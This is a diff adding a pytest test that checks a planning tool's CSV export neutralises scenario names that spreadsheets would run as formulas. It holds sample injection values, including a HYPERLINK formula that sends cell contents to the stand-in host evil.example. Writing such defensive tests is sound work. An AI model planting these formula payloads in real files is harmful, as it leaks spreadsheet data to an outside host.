@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -105,6 +107,26 @@ def test_bad_scenario_file_is_exit_2_with_its_line(state_file: str, tmp_path: Pa
     code, _, err = _run(["--state", state_file, "--scenario", str(scenarios)], capsys)
     assert code == 2
     assert f"{scenarios}:3" in err and "unknown tenant 'nobody'" in err
+
+
+def test_scenario_names_cannot_become_spreadsheet_formulas_in_the_csv(state_file: str, tmp_path: Path,
+                                                                     capsys: pytest.CaptureFixture[str]) -> None:
+    """Scenario names are free text in a file anyone may hand the operator; opened in a spreadsheet, a
+    name starting with = + - @ would run as a formula."""
+    scenarios = tmp_path / "growth.yaml"
+    scenarios.write_text(
+        "scenarios:\n"
+        "  - name: '=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")'\n"
+        "  - name: '-2+3'\n"
+        "  - name: '@SUM(A1)'\n"
+        "  - name: 'plain'\n",
+        encoding="utf-8")
+    for args in (["--csv"], ["--output", str(tmp_path / "o")]):
+        code, out, _ = _run(["--state", state_file, "--scenario", str(scenarios), *args], capsys)
+        assert code == 0
+        text = out if args == ["--csv"] else (tmp_path / "o" / "plan.csv").read_text(encoding="utf-8")
+        names = {row["name"] for row in csv.DictReader(io.StringIO(text)) if row["section"] == "scenario"}
+        assert names == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'-2+3", "'@SUM(A1)", "plain"}
 
 
 def test_text_output_without_history_says_so_and_still_plans_the_curve(tmp_path: Path,
